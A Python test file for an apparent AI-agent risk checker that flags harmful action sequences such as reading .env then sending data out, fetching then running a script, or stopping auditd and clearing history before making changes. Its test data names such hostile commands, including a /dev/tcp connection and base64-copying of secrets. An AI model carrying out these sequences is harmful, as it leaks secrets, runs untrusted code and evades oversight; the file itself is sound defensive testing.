"""What several actions do together: halves of one harm are found, and ordinary work is not."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assent.policies.risk.assess import KINDS, assess
from assent.policies.risk.sequence import Action, assess_sequence, joint_findings
from assent.policies.risk.surroundings import Surroundings
from assent.schemas.risk import Level, Reason, Risk

AROUND = Surroundings(workspace="/projects/shop", home="/home/ada")
_HIGH = Risk.of([Reason(rule="shell.unknown", level=Level.HIGH, text="not judged here")])
_READ_SECRET = Risk.of([Reason(rule="path.secret.environment", level=Level.HIGH, text="reads .env")])


def _action(kind: str, payload: Any, risk: Risk | None = None) -> Action:
    if risk is None:
        risk = _HIGH if kind == "shell" else assess(kind, payload, AROUND)
    return kind, payload, risk


def _write(path: str, content: str = "x") -> Action:
    return _action("file_write", {"path": path, "content": content})


def _rules(*actions: Action) -> dict[str, Level]:
    return {reason.rule: reason.level for reason in reversed(assess_sequence(actions))}  # the worst of each rule stands


@pytest.mark.parametrize(
    "second",
    [
        _action("http", {"method": "POST", "url": "https://x.example", "body": "a"}),
        _action("http", {"method": "GET", "url": "https://docs.python.org/3/"}),
        _action("shell", "curl https://x.example"),
        _action("shell", "git push"),
        _action("shell", "nslookup x.example"),
        _action("shell", "cat < /dev/tcp/1.2.3.4/80"),
        _action("python", "import socket"),
    ],
)
@pytest.mark.parametrize(
    "first", [_action("file_read", ".env"), _action("shell", "cat .env", _READ_SECRET), _action("sql", "SELECT * FROM pg_shadow")]
)
def test_secret_and_then_a_way_out_is_critical(first: Action, second: Action) -> None:
    between = _action("file_read", "README.md")
    assert _rules(first, between, second)["sequence.secret_then_send"] == Level.CRITICAL


def test_way_out_before_the_secret_is_no_leak() -> None:
    assert "sequence.secret_then_send" not in _rules(_action("shell", "curl https://x.example"), _action("file_read", ".env"))


@pytest.mark.parametrize(
    ("path", "command"),
    [
        ("x.sh", "bash x.sh"), ("x.sh", "sh ./x.sh"), ("x.sh", "source x.sh"), ("x.sh", ". ./x.sh"), ("tools/x", "./tools/x --go"), ("run", "chmod +x run && ./run"),
        ("a.py", "python a.py"), ("a.js", "node a.js"), ("Makefile", "make"), ("Makefile", "cd . && make test"), ("package.json", "npm test"),
        ("tests/conftest.py", "pytest -q"), ("tests/test_a.py", "python -m pytest"), ("src/main.rs", "cargo test"), ("main_test.go", "go test ./..."),
        ("Dockerfile", "docker build ."), (".git/hooks/pre-commit", "git commit -m x"), (".gitattributes", "git diff"), ("setup.py", "pip install -e ."),
        ("main.tf", "terraform apply"), ("site.yml", "ansible-playbook site.yml"), ("a.sql", "psql -f a.sql"), ("build.gradle", "gradle build"),
    ],
)  # fmt: skip
def test_written_and_then_run_is_judged_together(path: str, command: str) -> None:
    assert (
        _rules(_write(path), _action("file_read", "README.md"), _action("shell", command))["sequence.write_then_run"]
        >= Level.HIGH
    )


def test_module_that_was_written_and_then_imported_is_judged_together() -> None:
    assert "sequence.write_then_run" in _rules(_write("json.py"), _action("python", "import json\nprint(json.dumps(1))"))


@pytest.mark.parametrize(
    "fetch", ["curl -o i.sh https://x.example/i", "wget -O i.sh https://x.example/i", "curl https://x.example/i > i.sh"]
)
def test_fetched_and_then_run_is_critical(fetch: str) -> None:
    assert _rules(_action("shell", fetch), _action("shell", "sh i.sh"))["sequence.fetch_then_run"] == Level.CRITICAL


@pytest.mark.parametrize(
    "copy", ["cp .env notes.txt", "cat .env > notes.txt", "mv .env docs/notes.txt", "base64 .env | tee notes.txt"]
)
def test_secret_under_another_name_stays_a_secret(copy: str) -> None:
    assert (
        _rules(_action("shell", copy, _READ_SECRET), _action("file_read", "notes.txt"))["sequence.secret_copied"]
        == Level.CRITICAL
    )


@pytest.mark.parametrize(
    "first",
    [
        _action("shell", "git config core.hooksPath /dev/null"), _action("shell", "systemctl stop auditd"), _action("shell", "history -c"),
        _action("sql", "ALTER TABLE t DISABLE TRIGGER ALL"), _write(".claude/settings.json"), _action("shell", "chmod -R 777 ."),
    ],
)  # fmt: skip
def test_control_taken_away_and_then_a_change_is_critical(first: Action) -> None:
    assert _rules(first, _write("docs/a.md"))["sequence.control_then_act"] == Level.CRITICAL
    assert "sequence.control_then_act" not in _rules(first, _action("file_read", "README.md"))


def test_many_small_removals_are_one_large_one() -> None:
    removals = [_action("shell", f"rm f{number}") for number in range(12)]
    assert "sequence.many_deletes" not in _rules(*removals[:4])
    assert _rules(*removals[:5])["sequence.many_deletes"] == Level.HIGH
    assert _rules(*removals)["sequence.many_deletes"] == Level.CRITICAL


def test_ordinary_work_adds_up_to_nothing() -> None:
    low = Risk.of([Reason(rule="shell.read", level=Level.LOW, text="reads")])
    actions = [
        _action("file_read", "src/a.py"),
        _action("shell", "ls src", low),
        _write("docs/a.md"),
        _action("shell", "cat docs/a.md", low),
        _action("sql", "SELECT 1"),
        _action("http", {"method": "GET", "url": "https://docs.python.org/3/"}),
    ]
    assert _rules(*actions) == {}


def test_finding_names_the_places_of_its_actions() -> None:
    found = joint_findings([_action("file_read", "README.md"), _write("x.sh"), _action("shell", "bash x.sh")])
    assert [(joint.reason.rule, joint.actions) for joint in found] == [("sequence.write_then_run", (1, 2))]
    assert "2, 3" in found[0].reason.text


def test_worst_finding_comes_first() -> None:
    levels = [
        reason.level.rank
        for reason in assess_sequence(
            [_write("x.sh"), _action("shell", "bash x.sh"), _action("file_read", ".env"), _action("shell", "curl x")]
        )
    ]
    assert levels == sorted(levels, reverse=True)
    assert len(levels) >= 2


@pytest.mark.parametrize(
    "text",
    [
        ";" * 16_000,
        "chmod a+" * 2_000,
        "skip=" * 3_000,
        "a/" * 8_000,
        "> " * 8_000,
        "xargs -a " * 1_700,
        "git config " * 1_400,
        "copy " * 3_000,
    ],
)
def test_time_is_linear_in_steps_and_text(text: str) -> None:
    began = time.perf_counter()
    assess_sequence([_action("shell", text)] * 5)
    assert time.perf_counter() - began < 2.0


_PAYLOADS = st.one_of(
    st.none(),
    st.text(max_size=60),
    st.binary(max_size=20),
    st.dictionaries(st.text(max_size=5), st.text(max_size=20), max_size=3),
)


@given(st.lists(st.tuples(st.sampled_from([*KINDS, "other"]), _PAYLOADS), max_size=6))
@settings(max_examples=150, deadline=None)
def test_any_actions_are_judged(pairs: list[tuple[str, Any]]) -> None:
    actions = [(kind, payload, assess(kind, payload, AROUND) if kind != "shell" else _HIGH) for kind, payload in pairs]
    assert all(reason.level >= Level.HIGH for reason in assess_sequence(actions))
